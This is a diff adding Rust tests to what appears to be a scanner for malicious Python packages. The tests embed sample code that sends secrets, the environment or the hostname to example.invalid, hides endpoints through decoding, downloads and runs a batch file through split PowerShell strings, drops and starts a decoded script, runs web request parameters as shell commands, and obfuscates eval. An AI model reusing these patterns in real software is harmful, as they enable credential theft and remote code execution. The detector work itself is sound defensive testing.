@@ -463,3 +463,186 @@ fn public_ip_classification() {
         check(host, false);
     }
 }
+
+#[test]
+fn cloud_secrets_and_the_environment_are_followed_into_requests() {
+    // A client that posts the secret key it was configured with.
+    let posted = r#"
+import requests
+class Client:
+    def __init__(self, config):
+        data = {"ak": config.access_key_id, "secret": config.access_key_secret}
+        requests.post(url="https://example.invalid/c", json=data)
+"#;
+    assert!(module(posted).contains(&"py-exfil-secret".to_string()), "{:?}", module(posted));
+    // Kept on the object by one method, sent by another.
+    let on_self = r#"
+from os import environ
+import requests
+class Probe:
+    def __init__(self):
+        self.secret = environ.get("AWS_SECRET_ACCESS_KEY")
+    def go(self):
+        requests.get("https://example.invalid/h/" + self.secret)
+"#;
+    assert!(module(on_self).contains(&"py-exfil-secret".to_string()), "{:?}", module(on_self));
+    // Serialised and encoded on the way: the environment still.
+    let encoded = r#"
+import os, json, base64, requests
+env = json.dumps(dict(os.environ))
+blob = base64.b64encode(env.encode()).decode()
+requests.post("https://example.invalid/p", data={"text": blob})
+"#;
+    assert!(module(encoded).contains(&"py-exfil-secret".to_string()), "{:?}", module(encoded));
+    // A signature made with the key is what services receive: not the secret.
+    let signed = r#"
+import hmac, requests
+def call(secret_key, body):
+    sig = hmac.new(secret_key.encode(), body, "sha256").hexdigest()
+    requests.post("https://example.invalid/api", data=body, headers={"X-Sig": sig})
+"#;
+    assert!(!module(signed).contains(&"py-exfil-secret".to_string()), "{:?}", module(signed));
+}
+
+#[test]
+fn endpoints_hidden_by_decoding() {
+    // Character arithmetic over a reversed string, through a variable and a Request object.
+    let shifted = r#"
+import os
+from urllib import request
+def report(a):
+    uc = "glodyql1hosp{dph22=vswwk"
+    endpoint = os.environ.get("X", "".join(chr(ord(c) - 3) for c in uc[::-1]))
+    req = request.Request(url=endpoint, method="POST", data=a)
+    request.urlopen(req)
+"#;
+    assert!(module(shifted).contains(&"py-hidden-endpoint".to_string()), "{:?}", module(shifted));
+    // A base64 URL decoded into a variable, a client session's request, a decoder function.
+    let encoded = r#"
+import base64, aiohttp
+def b(s):
+    return base64.b64decode(s).decode()
+async def send(x):
+    u = base64.b64decode("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv").decode()
+    async with aiohttp.ClientSession() as session:
+        async with session.post(b("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv"), data=x):
+            pass
+"#;
+    assert!(module(encoded).contains(&"py-hidden-endpoint".to_string()), "{:?}", module(encoded));
+    // Decoding what the service returned and sending it back is ordinary.
+    let honest = r#"
+import base64, requests
+def refresh(token):
+    claims = base64.b64decode(token.split(".")[1] + "==")
+    return requests.post("https://example.invalid/refresh", data={"t": token})
+"#;
+    assert!(!module(honest).contains(&"py-hidden-endpoint".to_string()), "{:?}", module(honest));
+}
+
+#[test]
+fn command_lines_cut_into_pieces_read_whole() {
+    let code = r#"
+import subprocess
+parts = ["power", "shell -Command \"Invoke-WebRequest 'https://example.invalid/l.bat' ",
+         "-OutFile $env:TEMP\\l.bat; Start-Process -FilePath $env:TEMP\\l.bat\""]
+cmd = "".join(parts)
+subprocess.run(cmd, shell=True)
+"#;
+    assert!(module(code).contains(&"py-shell-download-exec".to_string()), "{:?}", module(code));
+}
+
+#[test]
+fn decoded_program_written_by_name_then_started() {
+    let code = r#"
+import os, sys
+from os.path import join
+from base64 import b64decode
+from subprocess import call
+def b64(code):
+    return b64decode(code.encode()).decode()
+d = os.environ["TEMP"]
+with open(join(d, "stage2.py"), "w") as f:
+    f.write(b64("cHJpbnQoMSk="))
+call(f"{sys.executable} stage2.py")
+setup = None
+"#;
+    assert!(setup(code).contains(&"py-drop-run".to_string()), "{:?}", setup(code));
+    // Writing a generated file and running a build tool on another is a build.
+    let build = r#"
+import subprocess
+with open("version.py", "w") as f:
+    f.write("__version__ = '1.0'")
+subprocess.check_call(["make", "all"])
+"#;
+    assert!(!setup(build).contains(&"py-drop-run".to_string()), "{:?}", setup(build));
+}
+
+#[test]
+fn ciphers_and_look_alike_names() {
+    let cipher = r#"
+letters = "abcdefghijklmnopqrstuvwxyz"
+letters_r = letters[::-1]
+exec("".join([letters_r[letters.index(c)] if c in letters_r else c for c in "kirmg(1)"]))
+"#;
+    assert!(rules("demo-1.0/demo/__init__.py", cipher, Context::Import).contains(&"py-decode-exec".to_string()));
+    let names = r#"
+O0O0l11lO1 = __import__("os")
+l1lllI1lO0 = O0O0l11lO1.path
+IlIlIlIlIl = l1lllI1lO0.join
+O0O0O0l1l1 = IlIlIlIlIl("a", "b")
+"#;
+    assert!(rules("demo-1.0/demo/__init__.py", names, Context::Import).contains(&"py-confusable-names".to_string()));
+    let honest = r#"
+import os
+join_paths = os.path.join
+def process_items(items):
+    return [join_paths("a", i) for i in items]
+"#;
+    assert!(!rules("demo-1.0/demo/__init__.py", honest, Context::Import).contains(&"py-confusable-names".to_string()));
+}
+
+#[test]
+fn mathematical_letters_are_read_as_python_reads_them() {
+    // `𝘦𝘷𝘢𝘭` is `eval` to Python: decoded data evaluated at import.
+    let code = "import base64\n𝘦𝘷𝘢𝘭(base64.b64decode('MSsx'))\n";
+    let found = rules("demo-1.0/demo/__init__.py", code, Context::Import);
+    assert!(found.contains(&"py-decode-exec".to_string()), "{found:?}");
+}
+
+#[test]
+fn web_request_parameters_run_as_commands() {
+    let code = r#"
+import subprocess
+from flask import Flask, request
+app = Flask(__name__)
+@app.route("/")
+def index():
+    out = subprocess.Popen(request.args.get("c"), shell=True, stdout=subprocess.PIPE)
+    return out.stdout.read()
+"#;
+    assert!(module(code).contains(&"py-remote-command".to_string()), "{:?}", module(code));
+}
+
+#[test]
+fn names_assembled_from_pieces_and_fetched_by_getattr() {
+    // The decoder fetched with getattr from an imported module is still the decoder.
+    let getattr_decoder = "exec(compile(getattr(__import__('base64'), 'b64decode')('cHJpbnQoMSk='), '<s>', 'exec'))\n";
+    assert!(setup(getattr_decoder).contains(&"py-decode-exec".to_string()), "{:?}", setup(getattr_decoder));
+    // A name cut into literal pieces and reversed, evaluated: nothing honest reads so.
+    let pieces = "f = eval(('met' + 'sy' + 's.s' + 'o')[::-1])\nf('id')\n";
+    assert!(setup(pieces).contains(&"py-decode-exec".to_string()), "{:?}", setup(pieces));
+    // Evaluating a variable or a plain literal is not this.
+    let plain = "v = eval('1 + 1')\nw = eval(expr_from_config)\n";
+    assert!(!setup(plain).contains(&"py-decode-exec".to_string()), "{:?}", setup(plain));
+}
+
+#[test]
+fn host_details_stay_host_details_once_encoded() {
+    let code = r#"
+import base64, socket, requests
+h = base64.b64encode(socket.gethostname().encode()).decode()
+requests.post("https://example.invalid/p", data={"text": h})
+"#;
+    let found = rules("demo-1.0/demo/__init__.py", code, Context::Import);
+    assert!(found.contains(&"py-import-exfil-hostinfo".to_string()), "{found:?}");
+}
